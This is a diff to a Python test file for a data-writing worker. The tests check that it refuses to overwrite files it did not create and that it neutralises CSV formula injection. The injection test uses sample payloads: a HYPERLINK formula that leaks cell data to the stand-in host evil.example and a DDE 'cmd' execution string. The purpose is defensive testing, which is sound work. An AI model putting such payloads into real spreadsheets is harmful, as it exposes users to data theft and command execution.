@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 from pathlib import Path
@@ -264,14 +265,73 @@ def test_save_file_formats(data_dir: Path, ctx: JobContext, name: str) -> None:
     assert leftovers(data_dir) == []
 
 
-def test_save_file_overwrites_atomically(data_dir: Path, ctx: JobContext) -> None:
+def test_save_file_replaces_only_its_own_output_atomically(data_dir: Path, ctx: JobContext) -> None:
     target = data_dir / "s.csv"
-    target.write_text("old\n")
+    files.save_file({"file_path": "s.csv", "dataframe": [{"a": 0, "b": "first"}]}, ctx)
     os.chmod(target, 0o640)
     files.save_file({"file_path": "s.csv", "dataframe": RECORDS}, ctx)
-    assert target.read_text().startswith("a,b\n")
+    assert target.read_text().startswith("a,b\n") and "O'Brien" in target.read_text()
     assert target.stat().st_mode & 0o777 == 0o640
     assert leftovers(data_dir) == []
+
+
+def test_save_file_never_replaces_a_file_the_worker_did_not_write(data_dir: Path, ctx: JobContext) -> None:
+    mine = data_dir / "mine.csv"
+    mine.write_text("user,data\n1,2\n")
+    with pytest.raises(JobError, match="was not written by this worker"):
+        files.save_file({"file_path": "mine.csv", "dataframe": RECORDS}, ctx)
+    assert mine.read_text() == "user,data\n1,2\n"
+    # the worker's own output, then changed by the user: no longer the worker's to replace
+    files.save_file({"file_path": "edited.csv", "dataframe": RECORDS}, ctx)
+    edited = data_dir / "edited.csv"
+    edited.write_text("a,b\n9,edited by hand\n")
+    with pytest.raises(JobError, match="was not written by this worker"):
+        files.save_file({"file_path": "edited.csv", "dataframe": RECORDS}, ctx)
+    assert "edited by hand" in edited.read_text()
+    # the worker's own output made read-only: never replaced either
+    files.save_file({"file_path": "ro.csv", "dataframe": RECORDS}, ctx)
+    readonly = data_dir / "ro.csv"
+    os.chmod(readonly, 0o444)
+    before = readonly.read_bytes()
+    with pytest.raises(JobError, match="read-only"):
+        files.save_file({"file_path": "ro.csv", "dataframe": [{"a": 5}]}, ctx)
+    assert readonly.read_bytes() == before
+    # join outputs follow the same rule (a user's file at the output name is refused)
+    pd.DataFrame({"id": [1], "v": [2]}).to_csv(data_dir / "j1.csv", index=False)
+    pd.DataFrame({"id": [1], "w": [3]}).to_csv(data_dir / "j2.csv", index=False)
+    with pytest.raises(JobError, match="was not written by this worker"):
+        files.join({"operation": "merge", "file_paths": ["j1.csv", "j2.csv"], "output_path": "mine.csv"}, ctx)
+    assert mine.read_text() == "user,data\n1,2\n"
+    assert leftovers(data_dir) == []
+
+
+def test_save_file_csv_neutralises_formulas(data_dir: Path, ctx: JobContext) -> None:
+    """Server text that a spreadsheet would run as a formula is written with a leading quote (OWASP)."""
+    records = [
+        {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "n": -3, "s": "-5"},
+        {"name": "+cmd|' /C calc'!A0", "n": 2, "s": "@SUM(1+1)"},
+        {"name": "-2+3", "n": 1.5, "s": "\t=1+1"},
+        {"name": "plain = fine", "n": 4, "s": "none"},
+    ]
+    records[0]["=evil()"] = "x"
+    for name in ("f.csv", "f.tsv"):
+        files.save_file({"file_path": name, "dataframe": records}, ctx)
+        with open(data_dir / name, newline="", encoding="utf-8") as fh:
+            rows = list(csv.reader(fh, delimiter="," if name.endswith("csv") else "\t"))
+        back = pd.DataFrame(rows[1:], columns=rows[0])
+        assert back["name"].tolist() == [
+            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+            "'+cmd|' /C calc'!A0",
+            "'-2+3",
+            "plain = fine",
+        ]
+        assert back["n"].tolist() == ["-3.0", "2.0", "1.5", "4.0"]  # numbers untouched
+        assert back["s"].tolist() == ["-5", "'@SUM(1+1)", "'\t=1+1", "none"]  # a number as text stays
+        assert "'=evil()" in back.columns
+    # a carriage return first is neutralised too (checked in the raw bytes: Python's csv module does not
+    # quote a bare CR, so parsing the file back would split that row)
+    files.save_file({"file_path": "cr.csv", "dataframe": [{"s": "\r=1"}]}, ctx)
+    assert (data_dir / "cr.csv").read_bytes() == b"s\n'\r=1\n"
 
 
 @pytest.mark.parametrize(
